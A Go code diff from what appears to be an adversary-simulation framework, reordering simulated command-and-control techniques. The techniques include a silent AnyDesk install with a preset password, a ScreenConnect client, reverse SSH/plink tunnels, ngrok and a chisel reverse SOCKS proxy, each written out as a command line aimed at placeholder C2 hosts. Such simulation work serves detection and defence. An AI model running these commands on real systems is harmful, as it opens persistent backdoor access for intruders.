@@ -63,17 +63,17 @@ var commandAndControl = []*Technique{
 		ID: "T1219", Name: "Remote Access Tools", Tactic: "command-and-control", Effect: "a product for remote help lets the attacker in",
 		Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.93,
 		script: &script{at: onWindows, variants: []variant{
-			by("anydesk silent", cmd(anyDesk, `C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent`), cmd(world.Cmd, `cmd.exe /c echo P4ssw0rd | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password`), query("boot.net.anydesk.com", "198.51.100.77"), connect("boot.net.anydesk.com", 443, "ssl", 30e3, 90e3)),
 			by("screenconnect", cmd(world.Signed(`C:\Users\Public\ScreenConnect.ClientService.exe`, "ConnectWise, LLC"), `"C:\Users\Public\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h={c2}&p=443&s=a1b2&k=BgIAAACkAABSU0Ex&c=corp"`), query("instance-a1b2.screenconnect.com", "198.51.100.77"), connect("", 443, "ssl", 30e3, 90e3)),
+			by("anydesk silent", cmd(anyDesk, `C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent`), cmd(world.Cmd, `cmd.exe /c echo P4ssw0rd | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password`), query("boot.net.anydesk.com", "198.51.100.77"), connect("boot.net.anydesk.com", 443, "ssl", 30e3, 90e3)),
 		}},
 	},
 	{
 		ID: "T1572", Name: "Protocol Tunneling", Tactic: "command-and-control", Effect: "a tunnel leads from outside into the estate",
 		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.94,
 		script: &script{at: anywhere, variants: []variant{
-			by("plink", either(cmd(plinkTool, `plink.exe -ssh -R 127.0.0.1:3389:127.0.0.1:3389 -pw x tunnel@{c2ip}`), sh(world.SSH, `ssh -R 2222:localhost:22 tunnel@{c2ip}`)), connect("", 443, "ssh", 30e3, 60e3)),
 			by("ngrok", either(cmd(world.Dropped(`C:\Users\Public\ngrok.exe`, &plain), `ngrok.exe tcp 3389`), sh(world.UnixProgram("/tmp/ngrok"), `/tmp/ngrok tcp 22`)), query("tunnel.us.ngrok.com", "198.51.100.77"), connect("tunnel.us.ngrok.com", 443, "ssl", 20e3, 40e3)),
 			by("chisel", either(cmd(world.Dropped(`C:\Users\Public\svc.exe`, &plain), `svc.exe client https://{c2} R:socks`), sh(world.UnixProgram("/tmp/.c"), `/tmp/.c client https://{c2} R:socks`)), connect("", 443, "ssl", 20e3, 40e3)),
+			by("plink", either(cmd(plinkTool, `plink.exe -ssh -R 127.0.0.1:3389:127.0.0.1:3389 -pw x tunnel@{c2ip}`), sh(world.SSH, `ssh -R 2222:localhost:22 tunnel@{c2ip}`)), connect("", 443, "ssh", 30e3, 60e3)),
 		}},
 	},
 	{
